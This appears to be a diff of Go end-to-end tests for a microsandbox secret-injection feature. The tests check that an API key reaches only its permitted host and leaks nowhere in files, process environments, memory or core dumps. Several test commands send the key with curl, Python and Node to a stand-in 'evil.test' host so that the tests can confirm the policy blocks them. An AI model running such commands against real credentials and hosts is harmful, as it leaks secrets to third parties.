@@ -1,7 +1,6 @@
 package e2e
 
 import (
-	"bufio"
 	"bytes"
 	"crypto/ecdsa"
 	"crypto/elliptic"
@@ -9,6 +8,7 @@ import (
 	"crypto/tls"
 	"crypto/x509"
 	"crypto/x509/pkix"
+	"encoding/base64"
 	"encoding/hex"
 	"encoding/pem"
 	"errors"
@@ -21,6 +21,7 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
@@ -30,6 +31,7 @@ import (
 	v1 "github.com/google/go-containerregistry/pkg/v1"
 	"golang.org/x/sys/unix"
 
+	"github.com/microsandbox-go/microsandbox/internal/leakcheck"
 	"github.com/microsandbox-go/microsandbox/internal/testimage"
 )
 
@@ -133,6 +135,7 @@ func TestSecretClients(t *testing.T) {
 		"curl":        `curl -sS --fail -H "Authorization: Bearer $API_KEY" https://HOST/curl`,
 		"curl 1.1":    `curl -sS --fail --http1.1 -u "me:$API_KEY" https://HOST/curl1`,
 		"python":      `python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("https://HOST/python", headers={"X-Key": os.environ["API_KEY"]})).read().decode())'`,
+		"requests":    `python3 -c 'import os,requests; r = requests.get("https://HOST/requests", headers={"X-Key": os.environ["API_KEY"]}); r.raise_for_status(); print(r.text)'`,
 		"node":        `node -e 'require("https").get("https://HOST/node", {headers: {"x-key": process.env.API_KEY}}, r => r.on("data", d => process.stdout.write(d)))'`,
 		"node fetch":  `node -e 'fetch("https://HOST/fetch", {headers: {"x-key": process.env.API_KEY}}).then(r => r.text()).then(console.log)'`,
 		"git":         `git -c http.extraHeader="Authorization: token $API_KEY" ls-remote https://HOST/repo.git`,
@@ -152,8 +155,12 @@ func TestSecretClients(t *testing.T) {
 				tool = "openssl"
 			}
 			for _, host := range []string{"api.good.test", "evil.test"} {
-				script += fmt.Sprintf("if command -v %s >/dev/null; then out=$( { %s; } 2>&1 ); echo \"%s at %s: $? $out\" | tr '\\n' ' '; echo; else echo '%s at %s: none'; fi\n",
-					tool, strings.ReplaceAll(c, "HOST", host), name, host, name, host)
+				there := "command -v " + tool
+				if name == "requests" {
+					there = "python3 -c 'import requests' 2>/dev/null"
+				}
+				script += fmt.Sprintf("if %s >/dev/null; then out=$( { %s; } 2>&1 ); echo \"%s at %s: $? $out\" | tr '\\n' ' '; echo; else echo '%s at %s: none'; fi\n",
+					there, strings.ReplaceAll(c, "HOST", host), name, host, name, host)
 			}
 		}
 		r := s.run("run", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host", "--", "sh", "-c", script)
@@ -164,6 +171,7 @@ func TestSecretClients(t *testing.T) {
 		for name := range clients {
 			good, evil := lineOf(r.out, name+" at api.good.test: "), lineOf(r.out, name+" at evil.test: ")
 			if good == "none" {
+				t.Logf("%s is not on this machine", name)
 				continue
 			}
 			ran++
@@ -210,18 +218,19 @@ func TestSecretIsNowhere(t *testing.T) {
 	each(t, func(w *world) {
 		s := w.space()
 		site := s.secure()
-		value := newValue()
+		value := newValue() + "/+&" // which is written otherwise in URLs
+		forms := leakcheck.Forms(value)
 		w.env = append(w.env, "API_KEY="+value)
 		w.t.Cleanup(func() { s.run("rm", "-f", "-q", "keeper") })
 		if r := s.run("run", "-d", "-q", "--name", "keeper", "--log-level", "trace", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"); r.code != 0 {
 			t.Fatalf("%d %s", r.code, r.err)
 		}
 		w.env = w.env[:len(w.env)-1] // no command needs it from here on
-		use := `curl -sS -o /tmp/out -H "X-Key: $API_KEY" https://api.good.test/; curl -sS -o /tmp/out2 -H "X-Key: $API_KEY" https://evil.test/; cat /tmp/out /tmp/out2; env > /tmp/env`
+		use := `curl -sS -o /dev/null -u "me:$API_KEY" https://api.good.test/; curl -sS -o /tmp/out -H "X-Key: $API_KEY" https://api.good.test/; curl -sS -o /tmp/out2 -H "X-Key: $API_KEY" https://evil.test/; cat /tmp/out /tmp/out2; env > /tmp/env`
 		if r := s.run("exec", "keeper", "--", "sh", "-c", use); r.code != 0 || !strings.Contains(r.out, "hello over") || !strings.Contains(r.out, "denied by policy: secret API_KEY may not go to evil.test") {
 			t.Fatalf("%d %s %s", r.code, r.out, r.err)
 		}
-		if !strings.Contains(site.sent("api.good.test"), value) {
+		if got := site.sent("api.good.test"); !strings.Contains(got, value) || !strings.Contains(got, base64.StdEncoding.EncodeToString([]byte("me:"+value))) {
 			t.Fatal("the value was not used")
 		}
 		// In the guest: its files, its processes' arguments and environments. The pattern is not in the command.
@@ -232,15 +241,18 @@ func TestSecretIsNowhere(t *testing.T) {
 		if r := s.run("inspect", "keeper", "--format", "json"); strings.Contains(r.out, value) || !strings.Contains(r.out, "$MSB_API_KEY") {
 			t.Errorf("inspect: %s", r.out)
 		}
-		runner := w.runner("keeper")
-		var read int64
-		seen := false
-		for _, pid := range append(descendants(runner), runner) {
+		for _, pid := range pids() {
 			for _, f := range []string{"cmdline", "environ"} {
 				if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, f)); bytes.Contains(b, []byte(value)) {
 					t.Errorf("it is in the %s of process %d", f, pid)
 				}
 			}
+		}
+		runner := w.runner("keeper")
+		var read int64
+		seen := false
+		const held = "X-Key: $MSB_API_KEY"
+		for _, pid := range append(descendants(runner), runner) {
 			fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
 			for _, fd := range fds {
 				if to, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name())); strings.Contains(to, "msb-config") {
@@ -255,13 +267,14 @@ func TestSecretIsNowhere(t *testing.T) {
 			if l := lineOf(string(limits), "Max core file size"); !strings.HasPrefix(l, "1 ") && !strings.HasPrefix(l, "0 ") {
 				t.Errorf("process %d may dump core: %q", pid, l)
 			}
-			has, size := w.inMemory(pid, value)
-			read += size
-			if placeholder, _ := w.inMemory(pid, "X-Key: $MSB_API_KEY"); placeholder && pid != runner {
+			found, err := leakcheck.SearchMemory(pid, append(forms, held)...)
+			w.must(err)
+			read += found.Bytes
+			if found.Has(held) && pid != runner {
 				seen = true // so that it is known that what is in a guest is found
 			}
-			if has != (pid == runner) {
-				t.Errorf("memory of process %d (the runner is %d): %v, of %d bytes", pid, runner, has, size)
+			if found.Has(forms...) != (pid == runner) {
+				t.Errorf("memory of process %d (the runner is %d): %v, of %d bytes", pid, runner, found.Texts, found.Bytes)
 			}
 		}
 		if read < 64<<20 || !seen {
@@ -272,12 +285,41 @@ func TestSecretIsNowhere(t *testing.T) {
 			t.Errorf("stop: %s", r.err)
 		}
 		w.nowhereIn(value, w.home, "/dev/shm")
+
+		// The runner aborts with the value in its memory: it writes no core, and what it prints is without it.
+		w.env = append(w.env, "API_KEY="+value)
+		if r := s.run("start", "-q", "keeper"); r.code != 0 {
+			t.Fatalf("start: %s", r.err)
+		}
+		w.env = w.env[:len(w.env)-1]
+		if r := s.run("exec", "keeper", "--", "curl", "-sS", "-o", "/dev/null", "-H", held, "https://api.good.test/"); r.code != 0 {
+			t.Fatalf("%d %s %s", r.code, r.out, r.err)
+		}
+		runner = w.runner("keeper")
+		cores, err := os.Readlink(fmt.Sprintf("/proc/%d/cwd", runner))
+		w.must(err)
+		if pattern, err := os.ReadFile("/proc/sys/kernel/core_pattern"); err == nil && pattern[0] == '/' {
+			cores = filepath.Dir(string(pattern))
+		}
+		before, _ := os.ReadDir(cores)
+		w.must(unix.Kill(runner, unix.SIGABRT))
+		if !until(10*time.Second, func() bool { return unix.Kill(runner, 0) != nil }) {
+			t.Fatal("the runner is still there")
+		}
+		after, _ := os.ReadDir(cores)
+		for _, f := range after {
+			if strings.Contains(f.Name(), "core") && !slices.ContainsFunc(before, func(b os.DirEntry) bool { return b.Name() == f.Name() }) {
+				t.Errorf("there is a %s in %s", f.Name(), cores)
+			}
+		}
+		w.nowhereIn(value, w.home, "/dev/shm")
 	})
 }
 
-// nowhereIn looks for a value in every file below directories.
+// nowhereIn looks for a value, in any of its forms, in every file below directories.
 func (w *world) nowhereIn(value string, dirs ...string) {
 	w.t.Helper()
+	forms := leakcheck.Forms(value)
 	for _, dir := range dirs {
 		_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
 			if err != nil || !d.Type().IsRegular() {
@@ -288,96 +330,13 @@ func (w *world) nowhereIn(value string, dirs ...string) {
 				return nil
 			}
 			defer f.Close()
-			if contains(f, value) {
+			var found leakcheck.Found
+			if found.Search(f, forms...); found.Has(forms...) {
 				w.t.Errorf("it is in the file %s", path)
 			}
 			return nil
 		})
 	}
-}
-
-// contains looks for text in a stream.
-func contains(r io.Reader, text string) bool {
-	buf := make([]byte, 1<<20)
-	kept := 0
-	for {
-		n, err := r.Read(buf[kept:])
-		if bytes.Contains(buf[:kept+n], []byte(text)) {
-			return true
-		}
-		if err != nil {
-			return false
-		}
-		keep := min(len(text)-1, kept+n)
-		copy(buf, buf[kept+n-keep:kept+n])
-		kept = keep
-	}
-}
-
-// inMemory looks for a value in the memory of a process, as gcore would write it.
-func (w *world) inMemory(pid int, value string) (found bool, size int64) {
-	w.t.Helper()
-	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
-	if err == nil {
-		defer maps.Close()
-	}
-	mem, merr := os.Open(fmt.Sprintf("/proc/%d/mem", pid))
-	if merr == nil {
-		defer mem.Close()
-	}
-	if err = errors.Join(err, merr); errors.Is(err, fs.ErrNotExist) || errors.Is(err, unix.ESRCH) { // of a command that has ended
-		return false, 0
-	}
-	w.must(err)
-	const huge = 8 << 30 // what is reserved and not used
-	for lines := bufio.NewScanner(maps); lines.Scan(); {
-		f := strings.Fields(lines.Text())
-		from, to, _ := strings.Cut(f[0], "-")
-		begin, _ := strconv.ParseUint(from, 16, 63)
-		end, _ := strconv.ParseUint(to, 16, 63)
-		if !strings.HasPrefix(f[1], "r") || end-begin > huge || strings.Contains(lines.Text(), "[v") || strings.Contains(lines.Text(), "memfd:") {
-			continue
-		}
-		read := &counted{r: io.NewSectionReader(mem, int64(begin), int64(end-begin))}
-		found = contains(read, value) || found
-		size += read.n
-	}
-	// The guest's memory is a file with holes, which reading it in the process would fill.
-	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
-	for _, fd := range fds {
-		path := fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name())
-		if to, _ := os.Readlink(path); !strings.Contains(to, "memfd:") {
-			continue
-		}
-		f, err := os.Open(path)
-		if err != nil {
-			continue
-		}
-		for at := int64(0); ; {
-			begin, err := unix.Seek(int(f.Fd()), at, unix.SEEK_DATA)
-			if err != nil {
-				break
-			}
-			if at, err = unix.Seek(int(f.Fd()), begin, unix.SEEK_HOLE); err != nil {
-				break
-			}
-			found = contains(io.NewSectionReader(f, begin, at-begin), value) || found
-			size += at - begin
-		}
-		f.Close()
-	}
-	return found, size
-}
-
-type counted struct {
-	r io.Reader
-	n int64
-}
-
-func (c *counted) Read(p []byte) (int, error) {
-	n, err := c.r.Read(p)
-	c.n += int64(n)
-	return n, err
 }
 
 func TestSecretViolationEnds(t *testing.T) {
@@ -569,14 +528,23 @@ r = u.Request("https://api.good.test/python", headers={"X-Key": os.environ["API_
 print(u.urlopen(r).read().decode())
 for v in ["SSL_CERT_FILE"]: os.environ.pop(v, None)
 print(u.urlopen(u.Request("https://api.good.test/python2", headers={"X-Key": os.environ["API_KEY"]}), context=ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")).read().decode())`
+	const requests = `import os, requests
+key, host = os.environ["API_KEY"], "https://api.good.test/"
+print(requests.get(host, headers={"X-Key": key}).text)
+s = requests.Session()
+s.headers["Authorization"] = "Bearer " + key
+for _ in range(2): print(s.post(host, json={"a": "b"}).text)
+bad = requests.get("https://evil.test/", headers={"X-Key": key})
+assert bad.status_code == 403 and "secret API_KEY may not go to evil.test" in bad.text, bad.text`
 	const node = `require("https").get("https://api.good.test/node", {headers: {"x-key": process.env.API_KEY}}, r => r.on("data", d => process.stdout.write(d)))`
 	for name, x := range map[string]struct {
 		image   func(testing.TB) v1.Image
 		command []string
 		times   int
 	}{
-		"python": {testimage.Python, []string{"python3", "-c", python}, 2},
-		"node":   {testimage.Node, []string{"node", "-e", node}, 1},
+		"python":   {testimage.Python, []string{"python3", "-c", python}, 2},
+		"requests": {testimage.Requests, []string{"python3", "-c", requests}, 3},
+		"node":     {testimage.Node, []string{"node", "-e", node}, 1},
 	} {
 		t.Run(name, func(t *testing.T) {
 			img := x.image(t)
@@ -593,6 +561,9 @@ print(u.urlopen(u.Request("https://api.good.test/python2", headers={"X-Key": os.
 				}
 				if n := strings.Count(site.sent("api.good.test"), value); n != x.times {
 					w.t.Errorf("the value came %d times", n)
+				}
+				if got := site.sent("evil.test"); got != "" {
+					w.t.Errorf("the other host was sent %q", got)
 				}
 			})
 		})
